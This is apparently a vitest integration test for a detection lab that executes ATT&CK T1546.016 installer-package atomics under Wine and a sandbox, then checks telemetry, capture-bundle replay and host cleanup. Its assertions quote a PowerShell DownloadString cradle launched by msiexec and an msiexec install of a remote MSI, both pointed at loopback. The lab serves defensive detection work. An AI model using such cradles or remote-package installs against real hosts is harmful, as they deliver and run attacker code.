// The real lab end to end: the three seed tests (plus the remote-MSI variant) and the three benign
// scenarios executed for real (Wine's msiexec, the unshare sandbox), with proof of execution,
// expected signals, capture bundles that replay, and a host left as it was.
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadAtomicsStrict } from '../../../harness/atomics/load.ts';
import { readBundle } from '../../../harness/capture/bundle.ts';
import { executeTests, type ExecutedBundle } from '../../../harness/run/execute.ts';
import { payloadCacheDir } from '../../../harness/targets/cache.ts';
import { auditdUnavailable } from '../../../harness/sensors/auditd.ts';
import { readEvents } from '../../../harness/telemetry/readers/index.ts';
import { ATOMICS, ensureLab } from '../targets/lab-ready.ts';
import { entries, mountsUnder, processesMentioning } from './host-state.ts';

let base = '';
let prefix = '';
let bundles: ExecutedBundle[] = [];
const byId = (id: string) => bundles.find((b) => `${b.test.technique}-${b.test.kind === 'benign' ? 'benign-' : ''}${b.test.number}` === id)!;
const venvSite = () => path.join(payloadCacheDir(), 'T1546.016/venv/lib');

beforeAll(async () => {
  ({ prefix } = await ensureLab());
  base = mkdtempSync(path.join(tmpdir(), 'atomic-lab-it-'));
  const tests = loadAtomicsStrict(ATOMICS).flatMap((t) => t.tests);
  bundles = await executeTests(tests, { reportDir: path.join(base, 'report'), workRoot: path.join(base, 'work'), getPrereqs: true, timeoutMs: 180_000 });
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

describe('the lab, executed for real', () => {
  // dpkg needs real root (elevation_required): without it the sandbox is an unprivileged user
  // namespace and the scenario is refused up front (prereq_failed), never run half-way
  const root = process.getuid?.() === 0;

  it('runs every test on the expected target and reaches telemetry_present (every proof holds, every observable signal found)', () => {
    expect(bundles.map((b) => [b.test.number, b.test.kind, b.target])).toEqual([
      [1, 'attack', 'wine'], [2, 'attack', 'sandbox'], [3, 'attack', 'wine'], [4, 'attack', 'wine'],
      [1, 'benign', 'wine'], [2, 'benign', root ? 'sandbox' : 'none'], [3, 'benign', 'sandbox'],
    ]);
    for (const b of bundles) {
      if (!root && b.test.kind === 'benign' && b.test.number === 2) {
        expect(b.status).toBe('prereq_failed');
        expect(b.error).toMatch(/elevation_required/);
        continue;
      }
      const why = JSON.stringify({ error: b.error, proof: b.proof.filter((p) => !p.ok), signals: b.signals.filter((s) => !s.found) }, null, 1);
      expect(b.status, `${b.test.name}: ${why}`).toBe('telemetry_present');
      expect(b.exitCode).toBe(0);
    }
  });

  it('test 1: msiexec → powershell.exe with the cradle and marker; the download is impossible under Wine and the proof says so', () => {
    const b = byId('T1546.016-1');
    expect(b.proof.map((p) => p.ok)).toEqual([true, true, true]);
    expect(b.proof[2]!.detail).toMatch(/stub logs its arguments and exits 0/);
    const ps = b.events.find((e) => e.kind === 'process_creation' && e.process?.name === 'powershell.exe')!;
    expect(ps.parent!.name).toBe('msiexec.exe');
    expect(ps.process!.commandLine).toContain(`DownloadString('http://127.0.0.1:8765/t1?marker=${b.marker}')`);
    expect(ps.marker).toBe(b.marker);
  });

  it('test 2: the listener got the curl callback with the marker; pip → python → curl is in the process tree', () => {
    const b = byId('T1546.016-2');
    expect(b.proof[0]!.detail).toContain(`marker ${b.marker}`);
    expect(b.signals.every((s) => s.found)).toBe(true);
  });

  it('test 3: custom_action_test.txt holds the marker; MsiInstaller events are "not observable here", not missing', () => {
    const b = byId('T1546.016-3');
    expect(b.proof.find((p) => p.description.includes('custom_action_test.txt'))!.ok).toBe(true);
    const msi = b.signals.find((s) => s.description.startsWith('Windows Installer Application event log'))!;
    expect(msi).toMatchObject({ found: false, observable: false });
  });

  it('test 3 from a URL: Wine\'s msiexec downloaded the package from the loopback listener itself', () => {
    const b = byId('T1546.016-4');
    expect(b.proof[0]!.detail).toMatch(/GET \/T1546\.016\/t3_cmd_custom_action\.msi/);
    expect(b.command).toMatch(/msiexec\.exe \/i http:\/\/127\.0\.0\.1:8765\/T1546\.016\/t3_cmd_custom_action\.msi \/qn/);
  });

  it('the benign scenarios ran and show what they do (cmd.exe from msiexec, sh from dpkg, gcc from setup.py) without download or network', () => {
    expect(byId('T1546.016-benign-1').signals.map((s) => s.found)).toEqual([true, true]);
    if (process.getuid?.() === 0) expect(byId('T1546.016-benign-2').signals.map((s) => s.found)).toEqual([true, true]);
    expect(byId('T1546.016-benign-3').signals.map((s) => s.found)).toEqual([true, true]);
  });
});

describe('capture bundles', () => {
  it('read back with events, raw sensor files, tool versions and the commands run', () => {
    for (const b of bundles.filter((x) => x.status !== 'prereq_failed')) {
      const back = readBundle(b.dir);
      expect(back.events).toHaveLength(back.eventCount);
      expect(back.eventCount).toBeGreaterThan(0);
      expect(back.versions).toMatchObject({ wine: expect.stringMatching(/^wine-/), wixl: expect.any(String), python: expect.stringMatching(/^Python 3/), pip: expect.stringMatching(/^pip /), kernel: expect.stringMatching(/^Linux /) });
      for (const r of back.raw) expect(existsSync(path.join(b.dir, r.path)), r.path).toBe(true);
      expect(back.execution!.some((s) => s.phase === 'test')).toBe(true);
      for (const e of back.events) expect(e.origin.file && existsSync(path.join(b.dir, e.origin.file)), `${e.origin.file}`).toBe(true);
    }
  });

  it('raw sensor output replays into the same events through the shared readers (Wine trace with its anchor sidecar, auditd or strace)', async () => {
    for (const id of ['T1546.016-3', 'T1546.016-2']) {
      const b = readBundle(byId(id).dir);
      const raw = b.raw.find((r) => ['wine-trace', 'strace', 'auditd'].includes(r.format))!;
      const file = path.join(b.dir, raw.path);
      const again = [];
      for await (const e of readEvents(file, { onWarning: () => {} })) {
        if (e.kind === 'raw' || e.process?.commandLine?.includes('atomic-lab-sentinel-')) continue;
        again.push(e);
      }
      // a strace replay lacks the sandbox's file system (#! resolution): compare kinds and times
      expect(again.map((e) => e.kind)).toEqual(b.events.map((e) => e.kind));
      expect(again.map((e) => e.time)).toEqual(b.events.map((e) => e.time));
    }
  });

  it('the sandbox sensor is auditd where usable (root, no other audit daemon), else strace; the strace path gives the same verdict', async () => {
    const b2 = byId('T1546.016-2');
    const sensor = b2.raw.find((r) => r.format === 'auditd' || r.format === 'strace')!.sensor;
    expect((await auditdUnavailable()) === undefined ? 'auditd' : 'strace').toBe(sensor);
    const tests = loadAtomicsStrict(ATOMICS).flatMap((t) => t.tests).filter((t) => t.id === 'T1546.016-2');
    const [viaStrace] = await executeTests(tests, { reportDir: path.join(base, 'report-strace'), workRoot: path.join(base, 'work'), linuxSensor: 'strace' });
    expect(viaStrace!.raw.map((r) => r.format)).toContain('strace');
    expect(viaStrace!.status).toBe('telemetry_present');
  });
});

describe('the host is unchanged', () => {
  it('no process, mount or work folder of the run is left', () => {
    const work = path.join(base, 'work');
    expect(processesMentioning([work, ...bundles.map((b) => b.marker)])).toEqual([]);
    expect(mountsUnder(work)).toEqual([]);
    expect(entries(work)).toEqual([]);
  });

  it('what the tests wrote stayed in their sandboxes: prefix, venv, dpkg database, /etc', () => {
    expect(existsSync(path.join(prefix, 'drive_c', 'custom_action_test.txt'))).toBe(false);
    expect(existsSync(path.join(prefix, 'drive_c', 'Program Files (x86)', 'AtomicLabVendorTool'))).toBe(false);
    expect(existsSync('/etc/atomic-lab-vendor-agent')).toBe(false);
    expect(readFileSync('/var/lib/dpkg/status', 'utf8')).not.toContain('Package: atomic-lab-vendor-agent');
    const site = readdirSync(venvSite(), { recursive: true }).map(String);
    expect(site.some((f) => /atomic_t1546|atomic_lab_fastsum/.test(f))).toBe(false);
  });
});
